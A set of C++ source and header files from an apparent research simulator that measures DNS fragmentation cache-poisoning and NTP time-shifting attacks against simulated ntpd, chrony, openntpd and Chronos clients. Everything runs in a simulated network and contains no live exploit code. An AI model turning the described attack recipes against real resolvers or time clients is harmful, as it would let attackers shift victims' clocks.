struct CampaignReport {
  u64 seed = 0;
  u32 trials_per_scenario = 0;
  std::vector<ScenarioAggregate> scenarios;  ///< scenario registration order

  /// Machine-readable form; stable key order and number formatting.
  [[nodiscard]] std::string to_json(bool include_trials = true) const;
  /// Human-readable summary table.
  [[nodiscard]] std::string to_table() const;
};

}  // namespace dnstime::campaign
