// Structured campaign results: per-scenario aggregates over trial results,
// with deterministic JSON and ASCII-table writers.
//
// Reports contain only simulation-derived values — no wall-clock times, no
// thread counts — so the same campaign seed yields byte-identical output
// regardless of how many workers executed it.
#pragma once

#include <string>
#include <vector>

#include "campaign/scenario_spec.h"
#include "common/histogram.h"

namespace dnstime::campaign {

/// Shortest-stable JSON number formatting shared by every report-family
/// writer (campaign reports, the cross-campaign diff): %.6g, locale-free,
/// non-finite values become `null` (`nan`/`inf` are not JSON).
[[nodiscard]] std::string json_number(double v);

/// Appends `s` to `out` with RFC 8259 string escaping (quote, backslash,
/// and \u-escapes for control characters; other bytes pass through as
/// UTF-8).
void json_escape_into(std::string& out, const std::string& s);

/// Aggregate over all trials of one scenario. Quantiles are computed over
/// successful trials only (an unsuccessful trial's duration is the
/// deadline, which would say nothing about the attack).
struct ScenarioAggregate {
  std::string name;
  std::string attack;
  u32 trials = 0;
  u32 successes = 0;
  u32 errors = 0;
  double success_rate = 0.0;
  double duration_mean_s = 0.0;
  double duration_p50_s = 0.0;
  double duration_p90_s = 0.0;
  double shift_mean_s = 0.0;   ///< mean final clock offset, successful trials
  double metric_mean = 0.0;    ///< mean scenario-defined metric, all trials
  u64 fragments_total = 0;
  /// Trial-index order. Empty when the campaign was journaled: the shards
  /// hold the per-trial rows and store::read_report() rebuilds them.
  std::vector<TrialResult> results;

  /// Builds the aggregate from trial-ordered results (a batch wrapper
  /// around ScenarioAggregateBuilder).
  [[nodiscard]] static ScenarioAggregate from_results(
      const ScenarioSpec& spec, std::vector<TrialResult> results);
};

/// Streaming fold producing a ScenarioAggregate: feed TrialResults in
/// trial-index order, then call finish() once. from_results() and the
/// journal merge (campaign/store/journal_reader.h) both fold through this
/// builder — sharing the exact accumulation sequence is what makes a
/// report rebuilt from shards byte-identical to the in-memory one.
class ScenarioAggregateBuilder {
 public:
  /// `keep_results` retains every TrialResult inside the aggregate (the
  /// in-memory runner path and store::read_report). Aggregate-only folds
  /// pass false and hold O(1) state per trial plus the success-duration
  /// samples that exact p50/p90 quantiles require.
  ScenarioAggregateBuilder(std::string name, std::string attack,
                           bool keep_results);

  /// Must be called in trial-index order: floating-point accumulation
  /// order is part of the byte-identity contract.
  void add(TrialResult r);

  [[nodiscard]] ScenarioAggregate finish() &&;

 private:
  ScenarioAggregate agg_;
  EmpiricalCdf durations_;  ///< successful trials only
  double duration_sum_ = 0.0;
  double shift_sum_ = 0.0;
  double metric_sum_ = 0.0;
  bool keep_results_;
};

struct CampaignReport {
  u64 seed = 0;
  u32 trials_per_scenario = 0;
  std::vector<ScenarioAggregate> scenarios;  ///< scenario registration order

  /// Machine-readable form; stable key order and number formatting.
  /// `metrics_json`, when non-empty, must be a complete JSON value; it is
  /// appended verbatim as a trailing "metrics" key. Metrics are process
  /// telemetry (wall times, pool hit rates), NOT simulation results — they
  /// live outside the byte-identity contract, which is why the default
  /// (empty) leaves the output byte-for-byte what it always was.
  [[nodiscard]] std::string to_json(bool include_trials = true,
                                    const std::string& metrics_json = {})
      const;
  /// Human-readable summary table.
  [[nodiscard]] std::string to_table() const;
};

}  // namespace dnstime::campaign
