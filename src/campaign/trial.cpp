#include "campaign/trial.h"

#include <optional>
#include <stdexcept>

#include "attack/boot_time_attack.h"
#include "attack/chronos_attack.h"
#include "attack/query_trigger.h"
#include "attack/run_time_attack.h"
#include "chronos/chronos_client.h"
#include "ntp/clients/chrony.h"
#include "ntp/clients/ntpd.h"
#include "ntp/clients/openntpd.h"
#include "obs/provenance.h"
#include "obs/trace.h"
#include "scenario/world.h"

namespace dnstime::campaign {
namespace {

using scenario::World;
using sim::Duration;

const Ipv4Addr kVictim{10, 77, 0, 1};

/// Fragmentation cache poisoning of the resolver's delegation — the common
/// first stage of every run-time trial. The poisoner lives in the caller's
/// scope for the rest of the trial so replants keep the cache primed.
void poison_delegation(World& world, attack::CachePoisoner& poisoner) {
  DNSTIME_TRACE_BEGIN(world.loop().now().ns(), "trial", "poison-delegation");
  DNSTIME_PROV_EVENT(phase(world.loop().now().ns(), "poison-delegation"));
  poisoner.start();
  world.run_for(Duration::seconds(20));
  attack::QueryTrigger::via_open_resolver(
      world.attacker(), world.resolver_addr(),
      dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(10));
  DNSTIME_TRACE_END(world.loop().now().ns(), "trial", "poison-delegation");
}

/// Advance the world in slices until `done` reports true or `budget` runs
/// out; returns the simulated time consumed.
Duration run_until(World& world, Duration budget, Duration slice,
                   const std::function<bool()>& done) {
  Duration spent;
  while (spent < budget && !done()) {
    world.run_for(slice);
    spent = spent + slice;
  }
  return spent;
}

TrialResult run_time_trial(const ScenarioSpec& spec, TrialResult result) {
  scenario::WorldConfig wc = spec.world;
  wc.seed = result.seed;
  World world(wc);

  auto& host = world.add_host(kVictim);
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();

  std::unique_ptr<ntp::NtpClientBase> client;
  std::unique_ptr<ntp::NtpServer> victim_server;
  switch (spec.client) {
    case ClientKind::kNtpdKnownList:
    case ClientKind::kNtpdRefid: {
      auto ntpd =
          std::make_unique<ntp::NtpdClient>(*host.stack, host.clock, cfg);
      victim_server = std::make_unique<ntp::NtpServer>(*host.stack, host.clock,
                                                       ntp::ServerConfig{});
      ntpd->attach_server(victim_server.get());
      client = std::move(ntpd);
      break;
    }
    case ClientKind::kChrony:
      // chrony backs off its poll interval under persistent failure.
      cfg.poll_interval = Duration::seconds(192);
      client =
          std::make_unique<ntp::ChronyClient>(*host.stack, host.clock, cfg);
      break;
    case ClientKind::kOpenntpd:
      client =
          std::make_unique<ntp::OpenntpdClient>(*host.stack, host.clock, cfg);
      break;
  }
  DNSTIME_TRACE_BEGIN(world.loop().now().ns(), "trial", "honest-sync");
  DNSTIME_PROV_EVENT(phase(world.loop().now().ns(), "honest-sync"));
  client->start();
  world.run_for(Duration::minutes(12));
  DNSTIME_TRACE_END(world.loop().now().ns(), "trial", "honest-sync");
  if (host.clock.offset() < -1.0) {
    result.error = "victim failed to synchronise honestly before the attack";
    result.clock_shift_s = host.clock.offset();
    return result;
  }

  attack::CachePoisoner poisoner(world.attacker(),
                                 world.default_poisoner_config());
  poison_delegation(world, poisoner);

  sim::Time attack_start = world.loop().now();
  attack::RunTimeConfig rc;
  rc.victim = kVictim;
  rc.discovery = spec.client == ClientKind::kNtpdRefid
                     ? attack::RunTimeConfig::Discovery::kRefidLeak
                     : attack::RunTimeConfig::Discovery::kKnownList;
  rc.known_servers = world.pool_server_addrs();
  rc.deadline = spec.stop.deadline;
  attack::RunTimeAttack attack(world.attacker(), rc);
  std::optional<attack::AttackOutcome> outcome;
  attack.run([&] { return host.clock.offset() <= spec.stop.success_shift; },
             [&](const attack::AttackOutcome& o) { outcome = o; });

  if (spec.client == ClientKind::kOpenntpd) {
    // openntpd never re-queries DNS: the attack starves it until the
    // operator/watchdog restarts the daemon (we model a 60-minute stall
    // watchdog), whose boot-time lookup then hits the poisoned cache.
    auto* ontpd = static_cast<ntp::OpenntpdClient*>(client.get());
    world.loop().schedule_after(Duration::minutes(60),
                                [ontpd] { ontpd->restart(); });
  }

  run_until(world, spec.stop.deadline + spec.stop.settle,
            Duration::minutes(5), [&] { return outcome.has_value(); });

  result.clock_shift_s = host.clock.offset();
  result.fragments_planted = poisoner.fragments_planted();
  if (outcome && outcome->success) {
    result.success = true;
    result.duration_s = (outcome->at - attack_start).to_seconds();
    result.replant_rounds = outcome->replant_rounds;
  } else {
    result.duration_s = spec.stop.deadline.to_seconds();
  }
  return result;
}

TrialResult boot_time_trial(const ScenarioSpec& spec, TrialResult result) {
  scenario::WorldConfig wc = spec.world;
  wc.seed = result.seed;
  World world(wc);

  attack::BootTimeConfig bc;
  bc.poison = world.default_poisoner_config();
  bc.trigger = attack::BootTimeConfig::Trigger::kOpenResolver;
  bc.deadline = spec.stop.deadline;
  attack::BootTimeAttack attack(world.attacker(), bc);
  attack.set_success_check([&] { return world.pool_a_poisoned(); });

  sim::Time attack_start = world.loop().now();
  std::optional<attack::AttackOutcome> outcome;
  attack.run([&](const attack::AttackOutcome& o) { outcome = o; });
  run_until(world, spec.stop.deadline + Duration::minutes(1),
            Duration::seconds(30), [&] { return outcome.has_value(); });

  if (outcome) {
    result.fragments_planted = outcome->fragments_planted;
    result.replant_rounds = outcome->replant_rounds;
  }
  if (!outcome || !outcome->success) {
    result.duration_s = spec.stop.deadline.to_seconds();
    return result;
  }
  result.duration_s = (outcome->at - attack_start).to_seconds();

  // Fig. 2's second half: a victim that boots after the poisoning takes
  // all of its time from the attacker.
  auto& host = world.add_host(kVictim);
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();
  ntp::NtpdClient client(*host.stack, host.clock, cfg);
  DNSTIME_TRACE_BEGIN(world.loop().now().ns(), "trial", "victim-boot");
  DNSTIME_PROV_EVENT(phase(world.loop().now().ns(), "victim-boot"));
  client.start();
  world.run_for(spec.stop.settle);
  DNSTIME_TRACE_END(world.loop().now().ns(), "trial", "victim-boot");
  result.clock_shift_s = host.clock.offset();
  result.success = result.clock_shift_s <= spec.stop.success_shift;
  return result;
}

TrialResult chronos_trial(const ScenarioSpec& spec, TrialResult result) {
  scenario::WorldConfig wc = spec.world;
  wc.seed = result.seed;
  World world(wc);

  auto& victim = world.add_host(kVictim);
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();
  chronos::ChronosClient client(*victim.stack, victim.clock, cfg);
  client.start();

  // Let N honest hourly pool-building rounds complete, then poison —
  // the §VI-C closed form says the attacker wins iff N <= 11. N = 0
  // poisons before the first honest query completes.
  if (spec.chronos_honest_rounds > 0) {
    DNSTIME_TRACE_BEGIN(world.loop().now().ns(), "trial", "honest-rounds");
    DNSTIME_PROV_EVENT(phase(world.loop().now().ns(), "honest-rounds"));
    world.run_for(Duration::hours(spec.chronos_honest_rounds - 1) +
                  Duration::minutes(30));
    DNSTIME_TRACE_END(world.loop().now().ns(), "trial", "honest-rounds");
  }
  attack::ChronosAttack attack(
      world.attacker(),
      attack::ChronosAttackConfig{
          .resolver_addr = world.resolver_addr(),
          .malicious_ntp = world.attacker_ntp_addrs()});
  attack.inject_whitebox(world.resolver());

  DNSTIME_TRACE_BEGIN(world.loop().now().ns(), "trial", "shift");
  DNSTIME_PROV_EVENT(phase(world.loop().now().ns(), "shift"));
  Duration spent = run_until(
      world, spec.stop.deadline + spec.stop.settle, Duration::hours(1),
      [&] { return victim.clock.offset() <= spec.stop.success_shift; });
  DNSTIME_TRACE_END(world.loop().now().ns(), "trial", "shift");

  result.clock_shift_s = victim.clock.offset();
  result.success = result.clock_shift_s <= spec.stop.success_shift;
  result.duration_s = result.success ? spent.to_seconds()
                                     : spec.stop.deadline.to_seconds();
  // The §VI-C metric: what fraction of the final pool does the attacker
  // control? > 2/3 hands over the Chronos clock.
  std::size_t malicious = 0;
  const auto& pool = client.pool_builder().pool();
  for (Ipv4Addr addr : pool) {
    if (world.is_attacker_ntp(addr)) malicious++;
  }
  result.metric = pool.empty() ? 0.0
                               : static_cast<double>(malicious) /
                                     static_cast<double>(pool.size());
  return result;
}

}  // namespace

TrialResult run_trial(const ScenarioSpec& spec, const TrialContext& ctx) {
  TrialResult result;
  result.trial = ctx.trial;
  result.seed = ctx.seed;
  switch (spec.attack) {
    case AttackKind::kRunTime:
      return run_time_trial(spec, std::move(result));
    case AttackKind::kBootTime:
      return boot_time_trial(spec, std::move(result));
    case AttackKind::kChronos:
      return chronos_trial(spec, std::move(result));
    case AttackKind::kCustom:
      if (!spec.trial_fn) {
        throw std::invalid_argument("scenario '" + spec.name +
                                    "' is kCustom but has no trial_fn");
      }
      result = spec.trial_fn(spec, ctx);
      result.trial = ctx.trial;
      result.seed = ctx.seed;
      return result;
  }
  throw std::logic_error("unknown attack kind");
}

}  // namespace dnstime::campaign
