// Parallel Monte Carlo campaign execution.
//
// A campaign = a set of scenarios x N independent trials each. Every trial
// builds its own World seeded by mix_seed(campaign seed, scenario name
// hash, trial index), so:
//   * trials share no state and can run on any worker thread;
//   * a trial's seed depends only on campaign seed + scenario + index,
//     never on scheduling, so reports are byte-identical at any thread
//     count (the determinism contract tests/campaign/ verifies);
//   * adding or reordering scenarios does not disturb other scenarios'
//     results.
#pragma once

#include <functional>
#include <vector>

#include "campaign/report.h"
#include "campaign/scenario_spec.h"

namespace dnstime::campaign {

struct CampaignConfig {
  u64 seed = 0x5eed;
  /// Independent trials per scenario.
  u32 trials = 8;
  /// Worker threads; 0 = std::thread::hardware_concurrency().
  u32 threads = 0;
};

class CampaignRunner {
 public:
  explicit CampaignRunner(CampaignConfig config) : config_(config) {}

  /// Called after each finished trial (from worker threads, serialised by
  /// an internal mutex). For progress display; must not mutate the specs.
  /// The trial's result is stored before the callback runs, so a throwing
  /// callback cannot lose it: the first exception a callback raises is
  /// rethrown from run() after all workers finish (remaining trials still
  /// execute; further progress notifications are suppressed).
  using Progress =
      std::function<void(const ScenarioSpec&, const TrialResult&)>;
  void set_progress(Progress progress) { progress_ = std::move(progress); }

  /// Runs all trials of all scenarios across the worker pool and returns
  /// the aggregated report, scenarios in input order, trials in index
  /// order. A trial that throws is recorded as a failed trial with its
  /// exception text in TrialResult::error.
  [[nodiscard]] CampaignReport run(
      const std::vector<ScenarioSpec>& scenarios) const;

  /// Seed of trial `trial` of `scenario` under campaign seed
  /// `campaign_seed` (exposed so tests and tools can replay one trial).
  [[nodiscard]] static u64 trial_seed(u64 campaign_seed,
                                      const ScenarioSpec& scenario,
                                      u32 trial);

  [[nodiscard]] const CampaignConfig& config() const { return config_; }

 private:
  CampaignConfig config_;
  Progress progress_;
};

}  // namespace dnstime::campaign
