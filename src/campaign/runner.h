// Parallel Monte Carlo campaign execution.
//
// A campaign = a set of scenarios x N independent trials each. Every trial
// builds its own World seeded by mix_seed(campaign seed, scenario name
// hash, trial index), so:
//   * trials share no state and can run on any worker thread;
//   * a trial's seed depends only on campaign seed + scenario + index,
//     never on scheduling, so reports are byte-identical at any thread
//     count (the determinism contract tests/campaign/ verifies);
//   * adding or reordering scenarios does not disturb other scenarios'
//     results.
//
// With CampaignConfig::journal_dir set, finished trials stream into the
// sharded on-disk journal (campaign/store/) instead of RAM: each worker
// appends to its own shard, aggregation is a streaming fold over the
// merged shards, and `resume` re-executes only the trials a previous
// (possibly killed) run did not journal.
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "campaign/report.h"
#include "campaign/scenario_spec.h"

namespace dnstime::campaign {

struct CampaignConfig {
  u64 seed = 0x5eed;
  /// Independent trials per scenario.
  u32 trials = 8;
  /// Worker threads; 0 = std::thread::hardware_concurrency(). Capped at
  /// 1024 (and at the number of pending trials) by the runner.
  u32 threads = 0;
  /// Non-empty: journal every finished TrialResult into shard files under
  /// this directory (created if absent) instead of holding them in memory.
  /// The returned report then carries aggregates only — its
  /// ScenarioAggregate::results vectors are empty, peak resident result
  /// storage is O(workers + scenarios) TrialResults (plus one 8-byte
  /// duration per successful trial, which the exact p50/p90 quantiles
  /// require), and store::read_report() rebuilds the full per-trial
  /// report from the shards.
  std::string journal_dir;
  /// With journal_dir: accept an existing journal in the directory.
  /// run() verifies it belongs to this campaign (same seed, trial count
  /// and scenario set), truncates any torn final record a crash left
  /// behind, and executes only the trials not yet journaled. Without
  /// resume, a journal directory that already contains shards is an error.
  bool resume = false;
  /// Non-empty: record a sim-time trace of one trial (selected by
  /// trace_index) and write it to this path as Chrome trace_event JSON
  /// after the campaign finishes. Tracing never perturbs results: the
  /// recorder observes sim time only, so the report stays byte-identical
  /// with or without it.
  std::string trace_path;
  /// Flattened index of the traced trial, scenario_index * trials +
  /// trial_index — deterministic regardless of which worker executes it.
  /// run() throws std::invalid_argument when it is out of range.
  u64 trace_index = 0;
  /// Non-empty: write an attack-narrative dump (obs::FlightRecorder
  /// to_json) into this directory (created if absent) for every trial
  /// matching dump_on, named `<scenario>-t<trial>.json` (non-filename
  /// characters in the scenario name become '_'). Dumps are a pure
  /// function of the trial seed, so they are byte-identical at any
  /// thread count.
  std::string dump_dir;
  /// Which trials to dump (requires dump_dir): "auto" (error or
  /// deadline timeout), "error", "timeout", "attack-failed" (any
  /// unsuccessful trial), or "always". run() throws
  /// std::invalid_argument on anything else.
  std::string dump_on = "auto";
  /// Non-empty: stream live campaign progress to this file as JSON
  /// Lines, one line per finished trial (per-scenario done counts,
  /// success rate with a 95% Wilson interval, wall-clock ETA). The
  /// stream is for watching, not for records: line order and the ETA
  /// fields depend on scheduling and wall time, so it sits explicitly
  /// outside the byte-identity contract (the report itself is
  /// unaffected). Write failures after open are ignored.
  std::string progress_path;
};

class CampaignRunner {
 public:
  explicit CampaignRunner(CampaignConfig config)
      : config_(std::move(config)) {}

  /// Called after each executed trial (from worker threads, serialised by
  /// an internal mutex). For progress display; must not mutate the specs.
  /// The trial's result is stored — in its report slot or its journal
  /// shard — before the callback runs, so a throwing callback cannot lose
  /// it: the first exception a callback raises is rethrown from run()
  /// after all workers finish (remaining trials still execute; further
  /// progress notifications are suppressed). Resumed trials that were
  /// already journaled are skipped, not re-notified.
  using Progress =
      std::function<void(const ScenarioSpec&, const TrialResult&)>;
  void set_progress(Progress progress) { progress_ = std::move(progress); }

  /// Runs all trials of all scenarios across the worker pool and returns
  /// the aggregated report, scenarios in input order, trials in index
  /// order. A trial that throws is recorded as a failed trial with its
  /// exception text in TrialResult::error. Journal mode additionally
  /// throws std::runtime_error on journal mismatch (resuming a different
  /// campaign), a dirty non-resume directory, or shard I/O failure.
  [[nodiscard]] CampaignReport run(
      const std::vector<ScenarioSpec>& scenarios) const;

  /// Seed of trial `trial` of `scenario` under campaign seed
  /// `campaign_seed` (exposed so tests and tools can replay one trial).
  [[nodiscard]] static u64 trial_seed(u64 campaign_seed,
                                      const ScenarioSpec& scenario,
                                      u32 trial);

  [[nodiscard]] const CampaignConfig& config() const { return config_; }

 private:
  /// Sink invoked by execute() for every finished trial, from worker
  /// threads: (worker index, scenario index, trial index, result). Must
  /// durably store the result and return a reference to the stored copy
  /// (progress_ observes it); a throw aborts the campaign.
  using TrialSink = std::function<const TrialResult&(u32, std::size_t, u32,
                                                     TrialResult&&)>;

  [[nodiscard]] CampaignReport run_in_memory(
      const std::vector<ScenarioSpec>& scenarios) const;
  [[nodiscard]] CampaignReport run_journaled(
      const std::vector<ScenarioSpec>& scenarios) const;

  /// Fans the (non-skipped) trials out over `threads` workers, feeding
  /// every result to `sink` and then to progress_. `skip`, when non-null,
  /// flags already-done flattened (scenario * trials + trial) indices.
  void execute(const std::vector<ScenarioSpec>& scenarios,
               const std::vector<u8>* skip, u32 threads,
               const TrialSink& sink) const;

  [[nodiscard]] u32 resolve_threads(std::size_t pending) const;

  CampaignConfig config_;
  Progress progress_;
};

}  // namespace dnstime::campaign
