// Declarative scenario descriptions for the campaign engine.
//
// A ScenarioSpec names one experiment configuration: a World to build, a
// victim client implementation, an attack recipe and a stop condition.
// The registry holds the paper's canonical scenarios (Table II run-time
// rows, the §IV-A boot-time pipeline, the §VI-C Chronos pool freeze) plus
// parameter sweeps (MTU, pool size, rate-limit fraction, pool A TTL).
//
// Specs are pure data: running N trials of a spec never mutates it, so the
// same spec can be executed concurrently from many worker threads.
#pragma once

#include <functional>
#include <string>
#include <string_view>
#include <vector>

#include "scenario/world.h"

namespace dnstime::campaign {

/// Which client implementation the victim host runs (Table I rows that the
/// run-time attack distinguishes).
enum class ClientKind {
  kNtpdKnownList,  ///< ntpd, attacker floods the enumerated pool (P1)
  kNtpdRefid,      ///< ntpd, upstreams learned from refid leak (P2)
  kChrony,         ///< chrony with poll backoff under failure
  kOpenntpd,       ///< openntpd; needs a restart to re-query DNS
};

enum class AttackKind {
  kRunTime,   ///< §IV-B: rate-limit abuse against a synchronised client
  kBootTime,  ///< §IV-A: poison first, victim boots into the attacker
  kChronos,   ///< §VI-C: freeze the Chronos pool via one poisoning
  kCustom,    ///< scenario supplies its own trial function
};

[[nodiscard]] const char* to_string(ClientKind k);
[[nodiscard]] const char* to_string(AttackKind k);

/// When a trial gives up and what counts as success.
struct StopCondition {
  /// Attack deadline on the simulation clock, measured from attack start.
  sim::Duration deadline = sim::Duration::hours(6);
  /// Extra simulated time after the deadline for in-flight effects (e.g.
  /// the final clock step) to land.
  sim::Duration settle = sim::Duration::minutes(5);
  /// A victim clock offset at or below this many seconds is a success
  /// (the canonical lab shift is -500 s; -400 leaves slew margin).
  double success_shift = -400.0;
};

/// Outcome of one independent trial. All fields are derived from the
/// deterministic simulation, so equal seeds give equal results.
struct TrialResult {
  u32 trial = 0;           ///< trial index within the scenario
  u64 seed = 0;            ///< world seed this trial ran with
  bool success = false;
  double duration_s = 0.0;     ///< attack start -> success (or deadline)
  double clock_shift_s = 0.0;  ///< victim clock offset at trial end
  double metric = 0.0;         ///< scenario-defined scalar (e.g. MC estimate)
  u64 fragments_planted = 0;
  u64 replant_rounds = 0;
  std::string error;  ///< non-empty if the trial threw
};

/// Per-trial identity handed to trial functions by the runner.
struct TrialContext {
  u64 campaign_seed = 0;
  u32 trial = 0;  ///< index within the scenario, 0-based
  u64 seed = 0;   ///< mix_seed(campaign_seed, scenario, trial)
};

struct ScenarioSpec {
  std::string name;         ///< unique, e.g. "table2/ntpd-p1"
  std::string description;
  scenario::WorldConfig world;
  ClientKind client = ClientKind::kNtpdKnownList;
  AttackKind attack = AttackKind::kRunTime;
  StopCondition stop;
  /// Chronos only: honest hourly rounds completed before the poisoning
  /// lands (the paper's window is N <= 11).
  int chronos_honest_rounds = 6;
  /// population/* only: fleet size hosted by the trial's ClientPopulation
  /// (0 for the single-victim scenarios). Specs are not serialised into
  /// reports, so this does not touch the report schema.
  u32 population_clients = 0;
  /// kCustom only: the trial body. Must be thread-safe (it is invoked
  /// concurrently for different trials) and deterministic in ctx.seed.
  std::function<TrialResult(const ScenarioSpec&, const TrialContext&)>
      trial_fn;
};

/// Named collection of scenarios. Insertion order is preserved — reports
/// list scenarios in registration order, independent of thread timing.
class ScenarioRegistry {
 public:
  /// Adds a spec; throws std::invalid_argument on duplicate names.
  ScenarioRegistry& add(ScenarioSpec spec);

  [[nodiscard]] const ScenarioSpec* find(std::string_view name) const;
  [[nodiscard]] const std::vector<ScenarioSpec>& all() const {
    return specs_;
  }
  /// All specs whose name starts with `prefix` (empty prefix = all).
  [[nodiscard]] std::vector<ScenarioSpec> select(
      std::string_view prefix) const;

  /// The built-in catalogue: Table II clients, boot-time, Chronos, and the
  /// default parameter sweeps.
  [[nodiscard]] static ScenarioRegistry builtin();

 private:
  std::vector<ScenarioSpec> specs_;
};

// --- canonical scenario builders -------------------------------------------

/// One Table II row: run-time attack against `client`.
[[nodiscard]] ScenarioSpec table2_scenario(ClientKind client);
/// §IV-A boot-time pipeline with the open-resolver trigger.
[[nodiscard]] ScenarioSpec boot_time_scenario();
/// §VI-C Chronos pool freeze after `honest_rounds` honest queries.
[[nodiscard]] ScenarioSpec chronos_scenario(int honest_rounds = 6);
/// A run-time attack that deterministically fails: the resolver filters
/// fragments (Table V hardening), so spoofed parts are never reassembled
/// and the causal chain breaks at "reassembled with a spoofed part".
/// Exists to exercise the forensics path (--dump / attack_narrative): the
/// dump names the exact break point. Short deadline keeps trials cheap.
[[nodiscard]] ScenarioSpec forensics_frag_filter_scenario();

// --- population scenarios ---------------------------------------------------
// Fleet-scale worlds on scenario::ClientPopulation (kCustom trials). The
// trial metric is the fraction of the fleet shifted past
// stop.success_shift; clock_shift_s reports the fleet's mean shift.

/// §VIII-B3 at fleet scale: `clients` NTP clients behind one shared
/// recursive resolver. The trial poisons the resolver's delegation once
/// and measures how far the shift migrates through the fleet as the
/// clients' DNS answers expire.
[[nodiscard]] ScenarioSpec population_shared_resolver_scenario(
    u32 clients = 100'000);
/// §VII-A herd effect: the whole fleet polls a small, fully rate-limiting
/// pool. The metric is the fraction of client-polls answered by KoD or
/// silence; success = the herd actually tripped the limiters.
[[nodiscard]] ScenarioSpec population_ratelimit_herd_scenario(
    u32 clients = 100'000);

// --- parameter sweeps -------------------------------------------------------
// Each returns one spec per value, named "<stem>/<value>". Sweeps use the
// boot-time recipe (the fastest full off-path pipeline) unless noted.

[[nodiscard]] std::vector<ScenarioSpec> mtu_sweep(
    const std::vector<u16>& mtus = {296, 552, 1280, 1500});
[[nodiscard]] std::vector<ScenarioSpec> pool_size_sweep(
    const std::vector<std::size_t>& sizes = {8, 16, 32, 64});
/// Run-time recipe: the rate-limit fraction decides how many upstreams the
/// flood can silence, which is what the run-time attack depends on.
[[nodiscard]] std::vector<ScenarioSpec> rate_limit_sweep(
    const std::vector<double>& fractions = {0.2, 0.38, 0.6, 1.0});
[[nodiscard]] std::vector<ScenarioSpec> ttl_sweep(
    const std::vector<u32>& ttls = {75, 150, 300, 600});

}  // namespace dnstime::campaign
