// Shared command-line parsing for campaign-driven binaries (benches and
// examples), so every tool accepts the same flags with the same error
// behaviour: unknown flags, missing values and malformed numbers are
// reported, not silently skipped or zeroed. Because journaling lives in
// CampaignConfig, --journal/--resume give every campaign tool
// crash-resumable persistence with no bespoke flag code.
#pragma once

#include <string>

#include "campaign/dist/options.h"
#include "campaign/runner.h"

namespace dnstime::campaign {

struct CliOptions {
  CampaignConfig config;
  std::string filter;  ///< scenario name prefix (tools define the default)
  std::string out;     ///< --out: report destination path ("" = stdout)
  bool json = false;
  bool metrics = false;  ///< --metrics: append process telemetry to report
  bool ok = true;  ///< false => a parse error was printed to stderr
  /// Multi-process distribution: --workers N plus the hidden --dist-*
  /// worker wiring and kill-injection flags (campaign/dist/options.h).
  /// Tools dispatch with dist.worker_mode -> dist::run_worker,
  /// dist.workers >= 2 -> dist::run_coordinator, else CampaignRunner.
  dist::DistOptions dist;
};

/// Parses the shared campaign flags: --trials N, --threads T, --seed S,
/// --journal DIR, --resume, --out PATH, --json, --metrics, --trace FILE,
/// --trace-index N, --dump DIR, --dump-on PRED, --progress FILE,
/// --workers N, --log-level LEVEL and (when `scenario_flags` is set)
/// --filter PREFIX.
/// --workers N (N >= 2) selects the multi-process coordinator; it
/// requires --journal and rejects --trace/--dump (trials execute in other
/// processes), and --threads is ignored (the process is the unit of
/// parallelism; workers run single-threaded). In distributed mode
/// --progress names a directory of per-process JSONL files, not a file.
/// The hidden worker/fault-injection flags (--dist-worker, --dist-fd-in,
/// --dist-fd-out, --dist-worker-id, --dist-kill-worker, --dist-kill-after)
/// land in CliOptions::dist; respawn_args records argv with --workers and
/// --dist-kill-* stripped so the coordinator can re-exec this binary as
/// workers.
/// `defaults` seeds the returned options. --dump/--dump-on/--progress
/// land in CampaignConfig::dump_dir/dump_on/progress_path (narrative
/// dumps and the live progress stream; see runner.h).
/// --log-level applies immediately (Logger::set_level); --trace/--trace-index
/// land in CampaignConfig::trace_path/trace_index. Numeric values must be
/// full unsigned-decimal tokens in range — garbage, trailing junk,
/// negatives and overflow are reported like unknown flags (never silently
/// parsed as 0), and --trials additionally rejects 0.
/// On any error, prints the problem and a usage line to stderr and
/// returns ok = false.
[[nodiscard]] CliOptions parse_cli(int argc, char** argv,
                                   CliOptions defaults,
                                   bool scenario_flags = false);

/// Writes the report — to_json() when opts.json, to_table() otherwise —
/// to opts.out, or stdout when opts.out is empty. Journaled campaigns
/// (config.journal_dir set) serialise aggregates only: the per-trial rows
/// live in the journal and store::read_report() rebuilds them. With
/// opts.metrics, a telemetry section (obs registry snapshot + process-wide
/// buffer-pool stats) is appended: a "metrics" key in JSON, a trailing
/// block in table form. Without it, output is byte-identical to what the
/// tool always produced. Returns false (with a message on stderr) on I/O
/// failure.
[[nodiscard]] bool write_report(const CliOptions& opts,
                                const CampaignReport& report);

}  // namespace dnstime::campaign
