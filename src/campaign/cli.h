// Shared command-line parsing for campaign-driven binaries (benches and
// examples), so every tool accepts the same flags with the same error
// behaviour: unknown flags and missing values are reported, not silently
// skipped.
#pragma once

#include <string>

#include "campaign/runner.h"

namespace dnstime::campaign {

struct CliOptions {
  CampaignConfig config;
  std::string filter;  ///< scenario name prefix (tools define the default)
  bool json = false;
  bool ok = true;  ///< false => a parse error was printed to stderr
};

/// Parses --trials N, --threads T, --seed S and (when
/// `scenario_flags` is set) --filter PREFIX and --json. `defaults`
/// seeds the returned options. On any unknown flag or missing value,
/// prints a usage line to stderr and returns ok = false.
[[nodiscard]] CliOptions parse_cli(int argc, char** argv,
                                   CliOptions defaults,
                                   bool scenario_flags = false);

}  // namespace dnstime::campaign
