#include "campaign/progress_merge.h"

#include <cstdlib>
#include <cstring>

#include "common/stats.h"

namespace dnstime::campaign {
namespace {

/// Finds `"key":` in a JSON line and parses the number after it. The
/// progress writers emit flat objects with unescaped keys, so a plain
/// substring probe is exact here.
bool find_number(const std::string& line, const char* key, double& out) {
  std::string probe = "\"";
  probe += key;
  probe += "\":";
  const std::size_t pos = line.find(probe);
  if (pos == std::string::npos) return false;
  const char* start = line.c_str() + pos + probe.size();
  char* end = nullptr;
  const double v = std::strtod(start, &end);
  if (end == start) return false;
  out = v;
  return true;
}

bool find_u64(const std::string& line, const char* key, u64& out) {
  double v = 0.0;
  if (!find_number(line, key, v) || v < 0.0) return false;
  out = static_cast<u64>(v);
  return true;
}

/// Extracts the scenario name. Worker lines escape names via
/// obs::append_escaped, so stop at the first unescaped quote.
bool find_scenario(const std::string& line, std::string& out) {
  static const char probe[] = "\"scenario\":\"";
